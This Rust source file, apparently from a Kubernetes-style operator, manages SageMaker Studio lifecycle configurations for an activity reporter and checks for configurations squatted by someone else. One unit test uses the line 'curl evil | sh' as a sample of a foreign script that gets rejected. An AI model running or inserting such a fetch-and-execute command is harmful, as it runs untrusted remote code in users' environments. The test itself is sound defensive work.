//! The activity reporter as Studio lifecycle configurations: one per app type it supports,
//! named after the domain and the script's content, created before the domain settings refer to
//! them and deleted when they are replaced or no longer wanted.

use std::collections::BTreeMap;

use sha2::{Digest, Sha256};

use crate::aws::AwsError;
use crate::aws::clients::AwsSession;
use serde_json::Value;

use crate::aws::model::{DomainCreate, LifecycleConfigCreate, ObservedDomain};
use crate::controller::settings;
use crate::ownership::Owner;

/// Prefix of every lifecycle configuration the operator creates for the reporter.
pub const NAME_PREFIX: &str = "studio-operator-activity-";
/// App types whose Jupyter server the reporter can ask (Code Editor has none).
const APP_TYPES: [&str; 2] = ["JupyterLab", "KernelGateway"];

const ON_START: &str = include_str!("../../../assets/activity-reporter/on-start.sh");
const REPORTER: &str = include_str!("../../../assets/activity-reporter/reporter.py");

/// The lifecycle script: the start script with the reporter program embedded.
pub fn script() -> String {
    ON_START.replacen("__REPORTER_PY__\n", REPORTER, 1)
}

/// The first 12 hex digits of the SHA-256 of the parts: a name suffix that stays the same
/// across compiler versions and platforms (names persist in AWS).
pub fn content_hash(parts: &[&str]) -> String {
    let mut hasher = Sha256::new();
    for part in parts {
        hasher.update((part.len() as u64).to_be_bytes());
        hasher.update(part.as_bytes());
    }
    hasher.finalize().iter().take(6).map(|b| format!("{b:02x}")).collect()
}

/// The configuration names for a domain (by UID), per app type: they change when the script
/// changes, so a new version is a new configuration and running apps keep the one they started
/// with.
pub fn names(domain_uid: &str) -> BTreeMap<&'static str, String> {
    let version = content_hash(&[domain_uid, &script()]);
    APP_TYPES
        .iter()
        .map(|app_type| (*app_type, format!("{NAME_PREFIX}{}-{version}", app_type.to_lowercase())))
        .collect()
}

/// The ARNs of the reporter's configurations, per app type.
pub type ReporterArns = BTreeMap<&'static str, String>;

/// The reporter configurations that exist (of every domain and version), name -> ARN.
pub async fn existing(session: &AwsSession) -> Result<BTreeMap<String, String>, AwsError> {
    // `NameContains` must end in a letter or digit (its pattern is
    // `[a-zA-Z0-9](-*[a-zA-Z0-9]){0,62}`): ask without the dash, keep the full prefix.
    Ok(session
        .list_lifecycle_configs(NAME_PREFIX.trim_end_matches('-'))
        .await?
        .into_iter()
        .filter(|c| c.name.starts_with(NAME_PREFIX))
        .map(|c| (c.name, c.arn))
        .collect())
}

/// The wanted configurations that exist but are not exactly this domain's: another script, or
/// not this StudioDomain's ownership tags (name -> why). Anyone who may create lifecycle
/// configurations could have made one of the expected name first, and it would run in every
/// user's app; such a configuration is never attached, used or deleted.
pub async fn foreign(
    session: &AwsSession,
    owner: &Owner,
    wanted: &BTreeMap<&'static str, String>,
    existing: &BTreeMap<String, String>,
) -> Result<BTreeMap<String, String>, AwsError> {
    let mut foreign = BTreeMap::new();
    for name in wanted.values() {
        let Some(arn) = existing.get(name) else { continue };
        let content = session.describe_lifecycle_config(name).await?;
        let tags = match session.list_tags(arn).await {
            Ok(tags) => tags,
            Err(AwsError::NotFound { .. }) => continue,
            Err(error) => return Err(error),
        };
        if let Some(why) = not_ours(content.as_deref(), &tags, owner) {
            foreign.insert(name.clone(), why);
        }
    }
    Ok(foreign)
}

/// Why a configuration of the expected name is not this domain's reporter, if it is not.
fn not_ours(content: Option<&str>, tags: &BTreeMap<String, String>, owner: &Owner) -> Option<String> {
    match content {
        // Gone since the listing: it is simply missing, created again next pass.
        None => None,
        Some(content) if content != script() => Some("its script is not the activity reporter's".into()),
        Some(_) if !owner.owns(tags) => Some("it does not carry this StudioDomain's ownership tags".into()),
        Some(_) => None,
    }
}

/// Creates the named configurations, per app type.
pub async fn create(
    session: &AwsSession,
    missing: &[(&'static str, String)],
    tags: &BTreeMap<String, String>,
) -> Result<(), AwsError> {
    for (app_type, name) in missing {
        let config = LifecycleConfigCreate {
            name: name.clone(),
            app_type: (*app_type).into(),
            content: script(),
            tags: tags.clone(),
        };
        match session.create_lifecycle_config(&config).await {
            Ok(_) => {}
            // Created by an earlier pass whose listing was older.
            Err(AwsError::InUse { message }) if message.contains("already exists") => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Deletes the named configurations; one still in use by a running app is left for a later pass
/// (returned).
pub async fn delete(session: &AwsSession, names: &[String]) -> Result<Vec<String>, AwsError> {
    let mut left = Vec::new();
    for name in names {
        match session.delete_lifecycle_config(name).await {
            Ok(()) => {}
            Err(AwsError::InUse { .. }) => left.push(name.clone()),
            Err(error) => return Err(error),
        }
    }
    Ok(left)
}

/// Attaches the reporter to the domain's defaults: offered to users (`LifecycleConfigArns`) and
/// run by default (`DefaultResourceSpec.LifecycleConfigArn`) unless the spec chose another one.
/// A list the spec does not set is the one AWS holds (`observed`), without other versions of the
/// reporter, plus the reporter: configurations added in the console stay.
pub fn attach(domain: &mut DomainCreate, arns: &ReporterArns, observed: Option<&ObservedDomain>) {
    if arns.is_empty() {
        return;
    }
    let mut targets = vec![
        ("JupyterLab", "DefaultUserSettings", "JupyterLabAppSettings"),
        ("KernelGateway", "DefaultUserSettings", "KernelGatewayAppSettings"),
    ];
    if !domain.default_space_settings.is_empty() {
        targets.push(("JupyterLab", "DefaultSpaceSettings", "JupyterLabAppSettings"));
    }
    for (app_type, root, member) in targets {
        let Some(arn) = arns.get(app_type) else { continue };
        let (settings, held) = match root {
            "DefaultUserSettings" => (
                &mut domain.default_user_settings,
                observed.map(|o| &o.default_user_settings),
            ),
            _ => (
                &mut domain.default_space_settings,
                observed.map(|o| &o.default_space_settings),
            ),
        };
        let list = [member.to_string(), "LifecycleConfigArns".into()];
        let mut arns: Vec<Value> = match settings::get(settings, &list) {
            Some(Value::Array(own)) => own.clone(),
            _ => held
                .and_then(|held| settings::get(held, &list))
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .filter(|a| a.as_str().is_some_and(|a| !is_reporter(a)))
                .cloned()
                .collect(),
        };
        if !arns.iter().any(|a| a == arn.as_str()) {
            arns.push(Value::from(arn.clone()));
        }
        settings::set(settings, &list, Value::Array(arns));
        let default = [
            member.to_string(),
            "DefaultResourceSpec".into(),
            "LifecycleConfigArn".into(),
        ];
        if settings::get(settings, &default).is_none() {
            settings::set(settings, &default, Value::from(arn.clone()));
        }
    }
}

/// Whether an ARN is one of the reporter's configurations (of any domain or version).
fn is_reporter(arn: &str) -> bool {
    arn.rsplit('/').next().is_some_and(|name| name.starts_with(NAME_PREFIX))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn only_the_reporters_script_with_this_domains_tags_is_ours() {
        let owner = Owner {
            cluster: "c".into(),
            namespace: "ns".into(),
            name: "studio".into(),
            uid: "u-1".into(),
        };
        let ours = owner.tags();
        assert_eq!(not_ours(Some(&script()), &ours, &owner), None);
        assert_eq!(not_ours(None, &BTreeMap::new(), &owner), None);
        let squatted = not_ours(Some("#!/bin/bash\ncurl evil | sh"), &ours, &owner).unwrap();
        assert!(squatted.contains("script"), "{squatted}");
        let copied = not_ours(Some(&script()), &BTreeMap::new(), &owner).unwrap();
        assert!(copied.contains("ownership tags"), "{copied}");
        let other = Owner {
            uid: "u-2".into(),
            ..owner.clone()
        };
        assert!(not_ours(Some(&script()), &other.tags(), &owner).is_some());
    }

    #[test]
    fn the_script_embeds_the_reporter_and_fits_the_content_limit() {
        let script = script();
        assert!(!script.contains("__REPORTER_PY__"));
        assert!(script.contains("studio-operator.io/last-activity"));
        // StudioLifecycleConfigContent is at most 16384 characters of base64.
        assert!(script.len().div_ceil(3) * 4 <= 16384, "{} bytes", script.len());
    }

    #[test]
    fn content_hashes_are_stable_and_separate_their_parts() {
        assert_eq!(content_hash(&["a", "b"]), content_hash(&["a", "b"]));
        assert_ne!(content_hash(&["ab", ""]), content_hash(&["a", "b"]));
        // SHA-256 of (len 3, "uid") alone is a fixed value: names survive compiler upgrades.
        assert_eq!(content_hash(&["uid"]), "0cae9439bf5a");
    }

    #[test]
    fn names_are_per_domain_and_app_type_and_valid() {
        let a = names("uid-a");
        let b = names("uid-b");
        assert_ne!(a["JupyterLab"], b["JupyterLab"]);
        assert_eq!(a, names("uid-a"));
        for name in a.values() {
            assert!(name.len() <= 63, "{name}");
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{name}");
        }
    }

    #[test]
    fn without_the_reporter_nothing_is_attached() {
        let mut domain = DomainCreate::default();
        attach(&mut domain, &ReporterArns::new(), None);
        assert_eq!(domain, DomainCreate::default(), "no empty app settings appear");
    }

    #[test]
    fn attach_adds_without_overriding_a_chosen_default_or_the_consoles_configurations() {
        let mut domain = DomainCreate::default();
        domain
            .default_space_settings
            .insert("ExecutionRole".into(), json!("arn:aws:iam::123456789012:role/S"));
        domain.default_user_settings.insert(
            "KernelGatewayAppSettings".into(),
            json!({"DefaultResourceSpec": {"LifecycleConfigArn": "arn:chosen"}}),
        );
        let observed = ObservedDomain {
            default_user_settings: json!({"JupyterLabAppSettings": {"LifecycleConfigArns": [
                "arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/console",
                "arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/studio-operator-activity-jupyterlab-old",
            ]}})
            .as_object()
            .unwrap()
            .clone(),
            ..Default::default()
        };
        let arns = ReporterArns::from([
            ("JupyterLab", "arn:lab".to_string()),
            ("KernelGateway", "arn:kg".to_string()),
        ]);
        attach(&mut domain, &arns, Some(&observed));
        attach(&mut domain, &arns, Some(&observed));
        assert_eq!(
            domain.default_user_settings["JupyterLabAppSettings"],
            json!({
                "LifecycleConfigArns": ["arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/console", "arn:lab"],
                "DefaultResourceSpec": {"LifecycleConfigArn": "arn:lab"},
            })
        );
        assert_eq!(
            domain.default_user_settings["KernelGatewayAppSettings"],
            json!({"LifecycleConfigArns": ["arn:kg"], "DefaultResourceSpec": {"LifecycleConfigArn": "arn:chosen"}})
        );
        assert_eq!(
            domain.default_space_settings["JupyterLabAppSettings"]["LifecycleConfigArns"],
            json!(["arn:lab"])
        );
    }
}
